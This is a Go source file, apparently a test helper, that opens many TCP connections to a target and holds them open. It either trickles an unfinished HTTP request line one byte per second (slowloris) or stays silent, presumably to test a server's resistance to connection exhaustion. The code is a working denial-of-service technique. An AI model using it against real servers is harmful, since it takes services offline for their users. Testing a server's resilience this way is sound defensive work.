package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"
)

// attack opens n connections to addr that each play kind, until stdin
// closes (the script's "hold" fifo), and prints "held N" once all are open:
//
//	slowloris  an HTTP request line, one byte a second, never finished
//	silent     connect and say nothing (a SOCKS or TLS client that never speaks)
func attack(addr, kind string, n int, deadline time.Time) (string, error) {
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	stop := make(chan struct{})
	var wg sync.WaitGroup
	defer wg.Wait()
	defer close(stop)
	for i := 0; i < n; i++ {
		c, err := net.DialTimeout("tcp", addr, time.Until(deadline))
		if err != nil {
			return "", fmt.Errorf("attacker %d: %w", i, err)
		}
		conns = append(conns, c)
		if kind == "slowloris" {
			wg.Add(1)
			go trickle(c, stop, &wg)
		}
	}
	fmt.Printf("held %d\n", n)
	os.Stdout.Sync()
	io.Copy(io.Discard, bufio.NewReader(os.Stdin)) // until the script lets go
	return fmt.Sprintf("released %d", n), nil
}

func trickle(c net.Conn, stop <-chan struct{}, wg *sync.WaitGroup) {
	defer wg.Done()
	line := "GET http://127.0.0.1/ HTTP/1.1 with a line that never ends"
	t := time.NewTicker(time.Second)
	defer t.Stop()
	for i := 0; ; i++ {
		select {
		case <-stop:
			return
		case <-t.C:
		}
		if _, err := c.Write([]byte{line[i%len(line)]}); err != nil {
			return
		}
	}
}
